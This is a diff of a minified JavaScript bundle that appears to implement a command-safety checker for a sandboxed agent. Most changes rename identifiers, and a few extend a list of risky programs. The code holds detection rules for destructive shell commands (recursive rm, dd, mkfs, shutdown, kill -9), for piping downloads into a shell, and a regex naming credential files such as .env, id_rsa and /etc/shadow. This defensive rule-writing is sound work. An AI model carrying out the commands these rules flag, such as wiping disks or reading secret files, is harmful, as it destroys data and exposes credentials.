@@ -5452,7 +5455,7 @@ json -d "data/*.json"']}],MA=[{programs:["c8"],starts:"command",flags:{text:`
         use-spawn-wrap hook-require hook-run-in-context hook-run-in-this-context clean
       `,path:"cwd= temp-dir,t= cache-dir=",config:"nycrc-path=",code:"reporter,r= parser-plugins=",preload:"require,i=",
 output:"report-dir="},refused:{"only-prints":"report check-coverage","tool-writes":"instrument merge"},match:["npx nyc -\
--reporter=lcov mocha","npx nyc --reporter text npm test"]}],GA=[{programs:["cross-env"],starts:"command",flags:{},match:[
+-reporter=lcov mocha","npx nyc --reporter text npm test"]}],UA=[{programs:["cross-env"],starts:"command",flags:{},match:[
 "npx cross-env PORT=3000 NODE_OPTIONS=--experimental-vm-modules jest"]},{programs:["concurrently","conc"],starts:"comman\
 d-texts",flags:{text:`
         max-processes,m= names,n= name-separator= success,s= raw,r color hide= group,g timings
@@ -5475,7 +5478,7 @@ connect dev serve server watch"},match:["npx grunt lint test --gruntfile Gruntfi
 ll","npm-run-all2","run-s","run-p"],starts:"npm-scripts",flags:{text:`
         aggregate-output continue-on-error,c max-parallel= print-label,l print-name,n parallel,p
         race,r sequential,s serial silent
-      `},match:['npx run-s "lint:*" "test:** -- --silent"',"npx run-p lint:a lint:b -l"]}],HA=[{programs:["vitest"],operands:"\
+      `},match:['npx run-s "lint:*" "test:** -- --silent"',"npx run-p lint:a lint:b -l"]}],JA=[{programs:["vitest"],operands:"\
 text",flags:{text:`
         allowOnly bail= bench browser? browser.~= cache changed? clearScreen
         color compare= coverage coverage.~= diff.~= disableConsoleIntercept exclude= expandSnapshotDiff
@@ -5578,15 +5581,15 @@ uses-network":"publish upload","tool-writes":"apply apply-unsafe fix? in-place o
 napshots write","skips-tests":"allow-no-tests pass-with-no-tests","never-ends":"serve ui watch watch-all"},refused:{"out\
 side-code":"eval","uses-network":"add i install link remove uninstall update upgrade deploy login publish push release u\
 pload","never-ends":"console dev develop preview repl serve server shell start studio watch","tool-writes":"generate mig\
-rate","writes-files":"clean create eject init new"},unknown:!0},{refused:np}=As,zA=[{programs:["next"],alone:"never-ends",
+rate","writes-files":"clean create eject init new"},unknown:!0},{refused:np}=As,ZA=[{programs:["next"],alone:"never-ends",
 ends_with:"build info lint telemetry typegen"},{programs:["parcel","vitepress"],alone:"never-ends",ends_with:"build"},{programs:[
 "storybook"],alone:"never-ends",ends_with:"build doctor"},{programs:["testem"],alone:"never-ends",ends_with:"ci launcher\
 s"},{programs:["karma"],ends_with:"run start"},{programs:["ember","hexo","ng"],refused:{...np,"never-ends":`${np["never-\
 ends"]} s`}},{programs:["microbundle","ncc","postcss","rolldown","sass","tailwindcss","tsdown"],flags:{...As.flags,"neve\
-r-ends":`${As.flags["never-ends"]} w`}}],UA=kn(As),JA=kn({...As,flags:{...As.flags,code:"custom-syntax= env= environment\
+r-ends":`${As.flags["never-ends"]} w`}}],WA=kn(As),KA=kn({...As,flags:{...As.flags,code:"custom-syntax= env= environment\
 = formatter= parser= reporter= resolver= rulesdir= runner= use= cmd= command= eval= init-hook=",module:"import= load= lo\
-ad-plugins= loader= plugin~="}}),ZA=new Map(zA.flatMap(n=>{const e=kn({...As,...n});return n.programs.map(t=>[t,e])}));function WA(n){
-return ZA.get(n)??UA}const sp=eB({"outside-code":`
+ad-plugins= loader= plugin~="}}),qA=new Map(ZA.flatMap(n=>{const e=kn({...As,...n});return n.programs.map(t=>[t,e])}));function YA(n){
+return qA.get(n)??WA}const sp=tB({"outside-code":`
     bnr bun bunx coffee corepack cross-env-shell deno dotenv dotenv-cli dotenvx env-cmd execa foreman glob
     husky jake lage lerna lint-staged nf node npm npm-watch nps npx nx onchange
     open-cli opener per-env pm2 pnpm pnpx run-script-os run-z rush server-test shx
@@ -5600,46 +5603,46 @@ return ZA.get(n)??UA}const sp=eB({"outside-code":`
     npm-publish patch-package prebuild-install release-it semantic-release surge tiged vercel wrangler
   `,"writes-files":`
     copyfiles cpx cpy cpy-cli del del-cli drizzle-kit knex mkdirp ncp rimraf typeorm
-  `}),rp=[...HA,...MA,...jA,...LA,...PA,...GA],ip=new Map(rp.flatMap(n=>{const e=kn(n);return n.programs.map(t=>[t,e])}));
-function KA(n){const e=new Map([...n].flatMap(([t,s])=>{const r=rp.find(({programs:i})=>i.includes(t));return r?[[t,kn(r,
+  `}),rp=[...JA,...zA,...HA,...GA,...MA,...UA],ip=new Map(rp.flatMap(n=>{const e=kn(n);return n.programs.map(t=>[t,e])}));
+function VA(n){const e=new Map([...n].flatMap(([t,s])=>{const r=rp.find(({programs:i})=>i.includes(t));return r?[[t,kn(r,
 [s])]]:[]}));return{known:t=>{const s=ip.has(t)?t:op(t);return e.get(s)??ip.get(s)},refusal:t=>sp.get(t)??sp.get(op(t)),
-unknown:WA,module:JA}}function op(n){return n.replace(/^@[^/]*\//,"")}const qA={archives:as(qO),build:Bo({cargo:RO,go:NO,
-make:LO}),files:as(YO),git:as(QO),javascript:Bo({bun:FO,deno:PO,pnpm:jO,yarn:MO}),network:as(XO),packages:as(eA),php:Bo(
-{php:GO,phpunit:HO}),python:[...as(tA),...Bo({mypy:WO,pytest:JO,python:UO,ruff:ZO,uv:KO})],system:as(nA),text:as(sA)};function Bo(n){
+unknown:YA,module:KA}}function op(n){return n.replace(/^@[^/]*\//,"")}const QA={archives:as(QO),build:ho({cargo:PO,go:LO,
+make:GO}),files:as(XO),git:as(tA),javascript:ho({bun:jO,deno:MO,pnpm:HO,yarn:zO}),network:as(nA),packages:as(sA),php:ho(
+{php:UO,phpunit:JO}),python:[...as(rA),...ho({mypy:YO,pytest:KO,python:WO,ruff:qO,uv:VO})],system:as(iA),text:as(oA)};function ho(n){
 return Object.entries(n).map(([e,t])=>({name:e,evolver:t}))}function as({curated:n,workspace:e,both:t}){const s=(r={},i)=>Object.
 entries(r).map(([o,c])=>({name:o,sandbox:{...c,only:i}}));return[...s(n,"curated"),...s(e,"workspace"),...s(t)]}const ap=Object.
-entries(qA).flatMap(([n,e])=>e.map(t=>({...t,category:n}))).sort((n,e)=>n.name<e.name?-1:1);let Fc;const cp=new WeakMap;
-function fo(n=[]){if(Fc??=new Map(ap.map(s=>[s.name,lp(s)])),n.length===0)return Fc;const e=cp.get(n);if(e!==void 0)return e;
-const t=new Map(Fc);for(const s of n){const r=t.get(s.name);t.set(s.name,{...r,...lp(s,r?.category)})}return cp.set(n,t),
-t}const up="other";function lp(n,e=up){const t=FA.parse(n);return{...t,category:t.category??e}}function hF(n){return[...new Set(
-[...ap,...n].map(({category:e=up})=>e))]}function ho(n){return[...fo(n).values()].flatMap(e=>{const{evolver:t,name:s}=e;
-return t===void 0?[]:(t.programs??[s]).map(r=>({word:r,family:e,evolver:t}))})}function pF(n){return[...TOOLS.keys(),...ho(
-n).map(({word:e})=>e)]}function mF(n){const e=ho(n).flatMap(({word:s,family:r})=>[r.name,s]),t=[...fo(n).values()].filter(
-dp);return[...new Set([...e,...t.map(({name:s})=>s)])]}function YA(n,{programs:e,families:t}){if(!e.includes(n))return!1;
-const s=fo(t).get(n);return s!==void 0&&dp(s)}function dp({evolver:n,sandbox:e}){return n===void 0&&e!==void 0&&e.only!==
-"workspace"&&e.maturity!=="blocked"}function Bp(n,e,t){const s=fo(t).get(e),{only:r=n,curated:i,...o}=s?.sandbox??{};if(!(s?.
+entries(QA).flatMap(([n,e])=>e.map(t=>({...t,category:n}))).sort((n,e)=>n.name<e.name?-1:1);let Pc;const cp=new WeakMap;
+function po(n=[]){if(Pc??=new Map(ap.map(s=>[s.name,lp(s)])),n.length===0)return Pc;const e=cp.get(n);if(e!==void 0)return e;
+const t=new Map(Pc);for(const s of n){const r=t.get(s.name);t.set(s.name,{...r,...lp(s,r?.category)})}return cp.set(n,t),
+t}const up="other";function lp(n,e=up){const t=jA.parse(n);return{...t,category:t.category??e}}function CF(n){return[...new Set(
+[...ap,...n].map(({category:e=up})=>e))]}function mo(n){return[...po(n).values()].flatMap(e=>{const{evolver:t,name:s}=e;
+return t===void 0?[]:(t.programs??[s]).map(r=>({word:r,family:e,evolver:t}))})}function yF(n){return[...TOOLS.keys(),...mo(
+n).map(({word:e})=>e)]}function wF(n){const e=mo(n).flatMap(({word:s,family:r})=>[r.name,s]),t=[...po(n).values()].filter(
+dp);return[...new Set([...e,...t.map(({name:s})=>s)])]}function XA(n,{programs:e,families:t}){if(!e.includes(n))return!1;
+const s=po(t).get(n);return s!==void 0&&dp(s)}function dp({evolver:n,sandbox:e}){return n===void 0&&e!==void 0&&e.only!==
+"workspace"&&e.maturity!=="blocked"}function Bp(n,e,t){const s=po(t).get(e),{only:r=n,curated:i,...o}=s?.sandbox??{};if(!(s?.
 sandbox===void 0||r!==n))return n==="workspace"||i===void 0?{...o,family:s}:{...o,...i,family:s}}const fp=new WeakMap;function hp(n){
 const e=fp.get(n);if(e!==void 0)return e;const{programs:t,families:s,tool_flags:r={},make_variables:i=[]}=n,o=new Map,c=new Map;
-for(const d of t.length===0?[]:ho(s)){const{variables:h}=d.evolver,g=h?{...d.evolver,variables:[...h,...i]}:d.evolver,C=$_(
-d.word,g,pp(r[d.word]));o.set(d.word,C),[d.word,d.family.name].some(_=>t.includes(_))&&c.set(d.word,C)}let l;const B={tools:KA(
-new Map(Object.entries(r).map(([d,h])=>[d,pp(h)]))),allowed:c,known:o,offered:d=>(l??=new Map(ho(s).map(h=>[h.word,h.family.
+for(const d of t.length===0?[]:mo(s)){const{variables:h}=d.evolver,g=h?{...d.evolver,variables:[...h,...i]}:d.evolver,C=R_(
+d.word,g,pp(r[d.word]));o.set(d.word,C),[d.word,d.family.name].some(_=>t.includes(_))&&c.set(d.word,C)}let l;const B={tools:VA(
+new Map(Object.entries(r).map(([d,h])=>[d,pp(h)]))),allowed:c,known:o,offered:d=>(l??=new Map(mo(s).map(h=>[h.word,h.family.
 name])),l.get(d))};return fp.set(n,B),B}function pp(n=[]){const e=new Map(n.map(({flag:s,value:r})=>[Ys(s.replace(/^-+/,
 "")),r])),t=(s,r)=>[...e].flatMap(([i,o])=>o===s?`${i}${r}`:[]);return{text:[...t("none",""),...t("text","=")].join(" "),
 tests:t("path","=").join(" ")}}const mp={path:"node_modules",at:"anywhere"};function gp(n){if(n.programs.length===0)return[
 mp];const e=[...hp(n).allowed.values()],t=[mp,...e.flatMap(({data:s})=>s.dependencies)];return[...new Map(t.map(s=>[`${s.
-at} ${s.path}`,s])).values()]}function VA(n){return Dh(n.build_outputs,gp(n))}function gF(n){return gp(n).flatMap(({at:e,
-path:t})=>e==="home"?[t]:[])}const cs="/\0checkout";function Pc({policy:n,tree:e,platform:t,cwd:s="",checkoutAs:r},i){const{
-workspace:o}=n,c=QA(n)?cs:void 0,l=r===void 0?s:"..",{files:B,cwd:d=l===""?c:`${c??o}/${l}`}=i;return{policy:n,platform:t,
-proposal:i,mount:B?{at:"/",tree:B}:e?{at:c??o,tree:e}:{at:cs},cwd:d}}function QA({workspace:n}){const e=vr(n,cs,{at:cs});
-return e!==void 0&&ki(e,cs)}class Lc{workspace;cwd;#e;#t;#s;constructor({policy:{workspace:e},cwd:t,platform:s,mount:r}){
+at} ${s.path}`,s])).values()]}function eS(n){return Dh(n.build_outputs,gp(n))}function bF(n){return gp(n).flatMap(({at:e,
+path:t})=>e==="home"?[t]:[])}const cs="/\0checkout";function Lc({policy:n,tree:e,platform:t,cwd:s="",checkoutAs:r},i){const{
+workspace:o}=n,c=tS(n)?cs:void 0,l=r===void 0?s:"..",{files:B,cwd:d=l===""?c:`${c??o}/${l}`}=i;return{policy:n,platform:t,
+proposal:i,mount:B?{at:"/",tree:B}:e?{at:c??o,tree:e}:{at:cs},cwd:d}}function tS({workspace:n}){const e=vr(n,cs,{at:cs});
+return e!==void 0&&Di(e,cs)}class jc{workspace;cwd;#e;#t;#s;constructor({policy:{workspace:e},cwd:t,platform:s,mount:r}){
 this.#e=r,this.#t=r.at==="/"?r:{at:r.at},this.#s=s!=="linux",this.workspace=vr(e,cs,this.#t)??cs,this.cwd=t===void 0?this.
 workspace:vr(t,this.workspace,r)??cs}locate(e){return vr(e,this.cwd,this.#e)}leadsInto(e,t){const s=this.locate(e);return s===
-void 0?!1:t.some(r=>{const i=vr(r,this.workspace,this.#t);return i!==void 0&&this.isIn(s,i)})}isIn(e,t){return ki(e,t,{ignoreCase:this.#s})}mayBeIn(e,t){
-return ki(e,t,{ignoreCase:!0})}}const Cp=/^\/dev\/(?:sd|hd|vd|xvd|nvme|disk|mmcblk|mapper\/|loop)/,XA=(n,e,t)=>n.some(s=>/^-[A-Za-z]+$/.
-test(s)&&[...s.slice(1)].some(r=>e.includes(r))||s.length>3&&t.startsWith(s.toLowerCase())),eS=/^(?:\/+(?:[\w.-]*\/?)?\*?|\*|\.{1,2}\/?\*?|~[^/]*(?:\/\*?)?|\$\{?HOME\}?(?:\/\*?)?)$/,
-tS=n=>n.some((e,t)=>{const s=/^(?:-s|--signal)$/.test(e)?n[t+1]:/^(?:-s|--signal=|-)(.+)$/.exec(e)?.[1];return s!==void 0&&
-/^(?:9|(?:sig)?kill)$/i.test(s)}),yp=(n,e,t)=>(n==="systemctl"||n==="loginctl")&&e.some(s=>t.test(s)),nS=[{name:"mass_de\
-letion",matches:({program:n,args:e})=>n==="rm"&&XA(e,"rR","--recursive")&&e.some(t=>!t.startsWith("-")&&eS.test(t))},{name:"\
+void 0?!1:t.some(r=>{const i=vr(r,this.workspace,this.#t);return i!==void 0&&this.isIn(s,i)})}isIn(e,t){return Di(e,t,{ignoreCase:this.#s})}mayBeIn(e,t){
+return Di(e,t,{ignoreCase:!0})}}const Cp=/^\/dev\/(?:sd|hd|vd|xvd|nvme|disk|mmcblk|mapper\/|loop)/,nS=(n,e,t)=>n.some(s=>/^-[A-Za-z]+$/.
+test(s)&&[...s.slice(1)].some(r=>e.includes(r))||s.length>3&&t.startsWith(s.toLowerCase())),sS=/^(?:\/+(?:[\w.-]*\/?)?\*?|\*|\.{1,2}\/?\*?|~[^/]*(?:\/\*?)?|\$\{?HOME\}?(?:\/\*?)?)$/,
+rS=n=>n.some((e,t)=>{const s=/^(?:-s|--signal)$/.test(e)?n[t+1]:/^(?:-s|--signal=|-)(.+)$/.exec(e)?.[1];return s!==void 0&&
+/^(?:9|(?:sig)?kill)$/i.test(s)}),yp=(n,e,t)=>(n==="systemctl"||n==="loginctl")&&e.some(s=>t.test(s)),iS=[{name:"mass_de\
+letion",matches:({program:n,args:e})=>n==="rm"&&nS(e,"rR","--recursive")&&e.some(t=>!t.startsWith("-")&&sS.test(t))},{name:"\
 raw_disk_write",matches:({program:n,args:e})=>n==="dd"&&e.some(t=>t.startsWith("if=")||/^of=\/dev\//.test(t))},{name:"fi\
 lesystem_format",matches:({program:n})=>/^(?:mkfs(?:\..+)?|mke2fs)$/.test(n)},{name:"direct_disk_write",matches:({program:n,
 args:e})=>n==="tee"&&e.some(t=>Cp.test(t))},{name:"world_writable",matches:({program:n,args:e})=>n==="chmod"&&e.some(t=>/^[0-7]{2,4}[2367]$/.
@@ -5648,133 +5651,138 @@ e.some(t=>/^\+?(?:root|0+)(?::.*)?$|^:\+?(?:root|0+)$/s.test(t))},{name:"firewal
 test(n)},{name:"system_shutdown",matches:({program:n,args:e})=>/^(?:shutdown|poweroff|halt)$/.test(n)||/^(?:init|telinit)$/.
 test(n)&&e[0]==="0"||yp(n,e,/^(?:poweroff|halt)$/)},{name:"system_reboot",matches:({program:n,args:e})=>n==="reboot"||/^(?:init|telinit)$/.
 test(n)&&e[0]==="6"||yp(n,e,/^(?:reboot|kexec)$/)},{name:"force_kill",matches:({program:n,args:e})=>/^(?:kill|pkill|killall)$/.
-test(n)&&tS(e)}],wp=8,sS=4;function jc(n){const e=n.map(({span:t})=>t);return{start:Math.min(...e.map(({start:t})=>t)),end:Math.
-max(...e.map(({end:t})=>t))}}function Mr(n,e=0,t=new oS){return Mn(n).flatMap(s=>rS(s,t,e))}function rS(n,e,t){const s=[],
+test(n)&&rS(e)}],wp=8,oS=4;function Mc(n){const e=n.map(({span:t})=>t);return{start:Math.min(...e.map(({start:t})=>t)),end:Math.
+max(...e.map(({end:t})=>t))}}function Gr(n,e=0,t=new uS){return Mn(n).flatMap(s=>aS(s,t,e))}function aS(n,e,t){const s=[],
 {words:r}=ah(n);for(const{operator:l,target:B}of n.redirections)if(l.includes(">")&&B&&Cp.test(B.text)){const d=`> ${B.text}`;
 s.push({name:"direct_disk_write",pattern:d,span:B.span})}const i=bp(r),o=e.runBy(n,i,t);if(o!==void 0){const l=`${o.program}\
- | ${r[0]?.text??""}`,B=jc([...o.words,...r]);s.push({name:"remote_code_execution",pattern:l,span:B})}const c=new Set;for(const l of i){
-const B=nS.find(({matches:y})=>y(l))?.name;if(B!==void 0){const y=l.words.map(({text:_})=>_).join(" ");s.push({name:B,pattern:y,
-span:jc(l.words)})}const h=Lt(l.program)?.kind==="shell"?Cc(l.words)?.text:void 0;if(h===void 0||c.has(h)||t===sS)continue;
-c.add(h);const g=Mr(jn(h),t+1,e),C=jc(l.words);s.push(...g.map(y=>({...y,span:C}))),iS.test(h)&&s.push({name:"remote_cod\
-e_execution",pattern:h,span:C})}return s}function bp(n){const e=Mc(n,0);if(e===void 0)return[];const t=[e];if(Lt(e.program)?.
-kind==="wrapper")for(let s=1;s<=Math.min(n.length-1,wp);s+=1){const r=Mc(n,s);r!==void 0&&!/^-|=/.test(r.program)&&t.push(
-r)}if(e.program==="find")for(const[s,{text:r}]of n.entries()){const i=/^-(?:exec|ok)(?:dir)?$/.test(r)?Mc(n,s+1):void 0;
-if(i!==void 0&&t.push(i),t.length>wp)break}return t}function Mc(n,e){const t=n[e];if(t===void 0)return;const s=n.slice(e);
-return{program:Na(t.text),args:s.slice(1).map(({text:r})=>r),words:s}}const iS=/\bdownload(?:string|data)\b/i;class oS{#e=new Map;#t=new Map;runBy(e,t,s){
-const r=(e.pipedFrom&&this.#e.get(e.pipedFrom))??aS(e.inside),i=t.find(({program:c})=>_p(c));this.#e.set(e,r??i);const o=t.
-flatMap(({program:c,args:l,words:B})=>(xB(c)?l:B.slice(0,1).map(({text:d})=>d)).flatMap(d=>this.#t.get(Gc(d))??[]))[0];return i&&
-this.#s(s===0?i:{...i,words:[]},e),t.some(({program:c})=>xB(c))?r??o:o}#s(e,{redirections:t}){const s=t.flatMap(({target:r})=>r?.
-text??[]);for(const r of[...e.args,...s])!r.startsWith("-")&&Gc(r)!==""&&this.#t.set(Gc(r),e)}}function Gc(n){return n.replace(
-/[?#].*$/s,"").replace(/^.*[\\/]/s,"")}function aS(n){return Mn(n).flatMap(({words:e})=>bp(e)).find(({program:e})=>_p(e))}
-function _p(n){return Lt(n)?.kind==="downloader"}const Hc={mass_deletion:"deletes whole directories",raw_disk_write:"ove\
+ | ${r[0]?.text??""}`,B=Mc([...o.words,...r]);s.push({name:"remote_code_execution",pattern:l,span:B})}const c=new Set;for(const l of i){
+const B=iS.find(({matches:y})=>y(l))?.name;if(B!==void 0){const y=l.words.map(({text:_})=>_).join(" ");s.push({name:B,pattern:y,
+span:Mc(l.words)})}const h=Lt(l.program)?.kind==="shell"?oo(l.words)?.text:void 0;if(h===void 0||c.has(h)||t===oS)continue;
+c.add(h);const g=Gr(jn(h),t+1,e),C=Mc(l.words);s.push(...g.map(y=>({...y,span:C}))),cS.test(h)&&s.push({name:"remote_cod\
+e_execution",pattern:h,span:C})}return s}function bp(n){const e=Gc(n,0);if(e===void 0)return[];const t=[e];if(Lt(e.program)?.
+kind==="wrapper")for(let s=1;s<=Math.min(n.length-1,wp);s+=1){const r=Gc(n,s);r!==void 0&&!/^-|=/.test(r.program)&&t.push(
+r)}if(e.program==="find")for(const[s,{text:r}]of n.entries()){const i=/^-(?:exec|ok)(?:dir)?$/.test(r)?Gc(n,s+1):void 0;
+if(i!==void 0&&t.push(i),t.length>wp)break}return t}function Gc(n,e){const t=n[e];if(t===void 0)return;const s=n.slice(e);
+return{program:Ui(t.text),args:s.slice(1).map(({text:r})=>r),words:s}}const cS=/\bdownload(?:string|data)\b/i;class uS{#e=new Map;#t=new Map;runBy(e,t,s){
+const r=(e.pipedFrom&&this.#e.get(e.pipedFrom))??lS(e.inside),i=t.find(({program:c})=>_p(c));this.#e.set(e,r??i);const o=t.
+flatMap(({program:c,args:l,words:B})=>(Pa(c)?l:B.slice(0,1).map(({text:d})=>d)).flatMap(d=>this.#t.get(Hc(d))??[]))[0];return i&&
+this.#s(s===0?i:{...i,words:[]},e),t.some(({program:c})=>Pa(c))?r??o:o}#s(e,{redirections:t}){const s=t.flatMap(({target:r})=>r?.
+text??[]);for(const r of[...e.args,...s])!r.startsWith("-")&&Hc(r)!==""&&this.#t.set(Hc(r),e)}}function Hc(n){return n.replace(
+/[?#].*$/s,"").replace(/^.*[\\/]/s,"")}function lS(n){return Mn(n).flatMap(({words:e})=>bp(e)).find(({program:e})=>_p(e))}
+function _p(n){return Lt(n)?.kind==="downloader"}const zc={mass_deletion:"deletes whole directories",raw_disk_write:"ove\
 rwrites files or disks",filesystem_format:"formats a disk",direct_disk_write:"overwrites a disk",world_writable:"lets ev\
 ery user change files",privilege_escalation:"gives files to the superuser",firewall_manipulation:"changes the firewall",
 system_shutdown:"shuts the machine down",system_reboot:"restarts the machine",remote_code_execution:"downloads a script \
-and runs it",force_kill:"kills processes"},cS=/\brm\s+((?:-\S+\s+)+)["']*([^\s-]\S*)/g,uS=16*1024;function lS(n){if(n.length>
-uS)return"is too long to check";for(const[,s="",r=""]of n.matchAll(cS))if(/(?:^|\s)-(?:[a-zA-Z]*[rR]|-recursive)/.test(s)&&
-/^(?:[/*~]|\.\.|\$\{?HOME\b)/.test(r))return Hc.mass_deletion;const e=jn(n),t=Mr(e).find(({name:s})=>s!=="mass_deletion");
-return t?Hc[t.name]:dS(e)?"pipes text into a shell":void 0}function dS(n){return Mn(n).some(({pipedFrom:e,words:t})=>{const[
-s]=ro(t);return e!==void 0&&s!==void 0&&zi(s.text)})}const BS=new Map(Object.entries({"deletes files":"rm rmdir shred tr\
-uncate unlink","overwrites files or disks":"dd","reaches other machines":"ftp nc ncat netcat rsync scp sftp ssh telnet",
-"reads the environment":"printenv"}).flatMap(([n,e])=>e.split(" ").map(t=>[t,n]))),fS=2,hS=/(?<=(?<!--env-file(?:-if-exists)?(?:[= ]\.)?)(?:^|[\s/'"=]))(?:\.env(?:\.\w+)?|\.netrc|\.npmrc|\.pypirc|\.git-credentials|id_(?:rsa|ed25519|ecdsa)|\.(?:ssh|aws|gnupg|kube)\/|etc\/(?:passwd|shadow)|proc\/\w+\/environ)/,
-pS={"starts processes":/\bchild_process\b|\b(?:exec|spawn|fork)(?:File)?(?:Sync)?\s*\(\s*\\?['"`]|['"`](?:node:)?(?:cluster|worker_threads)\\?['"`]|\bos\s*\.\s*(?:exec\w*|popen|spawn\w*|system)\b|\b(?:subprocess|shell_exec|passthru|proc_open)\b|\b(?:system|exec|popen)\s*[('"]/,
+and runs it",force_kill:"kills processes"},dS=/\brm\s+((?:-\S+\s+)+)["']*([^\s-]\S*)/g,BS=16*1024;function fS(n){if(n.length>
+BS)return"is too long to check";for(const[,s="",r=""]of n.matchAll(dS))if(/(?:^|\s)-(?:[a-zA-Z]*[rR]|-recursive)/.test(s)&&
+/^(?:[/*~]|\.\.|\$\{?HOME\b)/.test(r))return zc.mass_deletion;const e=jn(n),t=Gr(e).find(({name:s})=>s!=="mass_deletion");
+return t?zc[t.name]:hS(e)?"pipes text into a shell":void 0}function hS(n){return Mn(n).some(({pipedFrom:e,words:t})=>{const[
+s]=Lr(t);return e!==void 0&&s!==void 0&&Ji(s.text)})}const Ep=new Map(Object.entries({"deletes files":"rm rmdir shred tr\
+uncate unlink git-clean","overwrites files or disks":"dd","reaches other machines":"ftp nc ncat netcat rsync scp sftp ss\
+h telnet git-push git-pull git-fetch git-clone gh aws gcloud az kubectl","starts programs later":"at crontab","reads the\
+ environment":"printenv"}).flatMap(([n,e])=>e.split(" ").map(t=>[t,n]))),pS=2,mS=8,gS=/(?<=(?<!--env-file(?:-if-exists)?(?:[= ]\.)?)(?:^|[\s/'"=]))(?:\.env(?:\.\w+)?|\.netrc|\.npmrc|\.pypirc|\.git-credentials|id_(?:rsa|ed25519|ecdsa)|\.(?:ssh|aws|gnupg|kube)\/|etc\/(?:passwd|shadow)|proc\/\w+\/environ)/,
+CS={"starts processes":/\bchild_process\b|\b(?:exec|spawn|fork)(?:File)?(?:Sync)?\s*\(\s*\\?['"`]|['"`](?:node:)?(?:cluster|worker_threads)\\?['"`]|\bos\s*\.\s*(?:exec\w*|popen|spawn\w*|system)\b|\b(?:subprocess|shell_exec|passthru|proc_open)\b|\b(?:system|exec|popen)\s*[('"]/,
 "reads the environment":/\bprocess\s*(?:\?\.|\.|(?:\?\.)?\[\s*\\?['"`])\s*(?:env|binding|dlopen)\b|\benv\b[^}]{0,200}\}\s*=\s*process\b|['"`](?:node:)?process\\?['"`]|\bos\s*\.\s*(?:environ|getenv)\b|\bgetenv\b|[%$@]ENV\b|\bENV\s*[[.]/,
 "deletes files":/\b(?:rm|rmdir|unlink|truncate)(?:Sync)?\s*\(|\bos\s*\.\s*(?:remove|unlink)\b|\bshutil\b/,"uses the netw\
 ork":/\bfetch\s*\(|['"`](?:node:)?(?:dgram|dns|https?|http2|net|tls)\\?['"`]|\b(?:urllib|requests|socket)\b/,"runs text \
-as code":/\b(?:eval|Function)\s*\(|['"`](?:node:)?vm\\?['"`]|\b__import__\b/};function Ep(n){const e=(o,{index:c,0:{length:l}})=>({
-does:o,span:{start:c,end:c+l}}),t=hS.exec(n);if(t)return e("names a file that is made for secrets",t);const s=jn(n),r=Mn(
-s).some(mS);for(const[o,c]of r?Object.entries(pS):[]){const l=c.exec(n);if(l)return e(`${o} in inline code`,l)}const[i]=Mr(
-s);return i?{does:Hc[i.name],span:i.span}:vp(s)}function mS({words:n}){return[...new Map(n.map(({text:t},s)=>[Lt(t),s]).
-toReversed()).values()].some(t=>Cc(n.slice(t))!==void 0)}function vp(n,e=0){for(const{words:t,pipedFrom:s}of Mn(n)){const[
-r,...i]=t;if(r===void 0)continue;const o=Le.posix.basename(r.text),c=kp(o);if(c!==void 0)return{does:c,span:r.span};if(zi(
-o)&&(s!==void 0||i.length===0))return{does:`has \`${o}\` run whatever it reads`,span:r.span};if(!(o!=="find"&&!OB(o)))for(const{
-text:l,span:B}of i){const h=e<fS&&/\s/.test(l)?vp(jn(l),e+1):void 0,g=kp(Le.posix.basename(l))??h?.does;if(g!==void 0)return{
-does:g,span:B}}}}function kp(n){const{kind:e,wraps:t}=Lt(n)??{};if(t==="as-user")return`acts as another user with \`${n}\
-\``;const s=e==="downloader"?"downloads":BS.get(n);return s&&`${s} with \`${n}\``}function Dp({warnings:n=[],network_touching:e}){
-return e?["network_touching",...n]:n}function xp(n,e,t=(s,r)=>co[s](r)){if(e.forms!==void 0)return gS(n,e,e.forms,t);if(e.
-subcommands===void 0)return Sp(n,e,t);const[s,...r]=n,i=Object.entries(e.subcommands).find(([c])=>c===s?.text)?.[1];if(i!==
-void 0)return Sp(r,{...e,...i},t);const o=`is accepted only with ${Ap(Object.keys(e.subcommands))}`;return{use:e,flags:[],
-values:[],objections:[{objection:o,...s&&{word:s}}]}}function gS(n,e,t,s){const r=`is accepted only as ${Ap(Object.keys(
-t))}`,[i]=n;let o={use:e,flags:[],values:[],objections:[{objection:r,...i&&{word:i}}]};for(const[c,l]of Object.entries(t)){
-const B=xA(Wh(c)??[],n,s);if(B===void 0)continue;const d=B.map(({word:g,kind:C})=>({text:g.text,word:g,kind:C})),h=B.find(
-g=>g.wrong!==void 0);if(!h)return{use:{...e,...l},flags:[],values:d,objections:[]};o={...o,values:d,objections:[Op(h)]}}
-return o}function Op({word:n,wrong:e}){return{objection:`does not accept \`${n.text}\`, which ${e}`,word:n}}function Ap(n){
-return n.map(e=>`\`${e}\``).join(", ")}function Sp(n,e,t){const{leading_flags:s=[]}=e,{flags:r,operands:i}=ks(sB(e.flags,
-s),n),o=[],c=(v,O)=>o.push(Op({word:v,wrong:O})),l=[],B=[];for(const{word:v,flag:O,value:D,valueWord:R}of r){if(O===void 0||
-O.choices?.includes(D??"")===!1){c(v,"is not among its flags");continue}B.push(O.name),s.includes(O.name)&&i.some(z=>Tp(
-v,z))&&c(v,"must come before the operands"),O.arity!=="none"&&(D===void 0?c(v,"requires a value"):l.push({text:D,kind:O.
-kind,word:R??v}))}const d=r.find(({flag:v})=>!s.includes(v?.name??"")),h=(v=[])=>v.some(O=>B.includes(O)),g=(Kh(e.operands??
-"path*")??[]).slice(h(e.first_operand_by)?1:0);for(const[v,O]of i.entries()){s.length>0&&d&&Tp(O,d.word)&&c(O,"comes aft\
-er the expression");const D=g[Math.min(v,g.length-1)];l.push({text:O.text,kind:D?.kind??"path",word:O})}for(const{text:v,
-kind:O,word:D}of l){const R=t(O,v);R!==void 0&&o.push({objection:`does not accept \`${v}\`, which ${R}`,word:D})}const{min:C,
-max:y}=Vh(g),_=C-(h(e.last_operand_by)?1:0),k=i.length;if(k<_||k>y){const v=y===_?`${y}`:`${_} to ${y}`,O=Number.isFinite(
-y)?v:`at least ${_}`;o.push({objection:`takes ${O} operands, not ${k}`})}return{use:e,flags:B,values:l,objections:o}}function Tp(n,e){
-return n.span.start>e.span.start}function Ip(n,{invocation:e}){const t=e?.family?["program","invocation","target"]:["pro\
-gram"];return n.filter(({layer:s,rule:r})=>!t.includes(String(s))||(0,gs.Y)(r).anyText===!0)}function $p(n,e){const t=new Map;
-return n.filter(({rule:s})=>{const r=(t.get(s)??0)+1;return t.set(s,r),r<=e})}function Rp({problems:n,targets:e,words:t}){
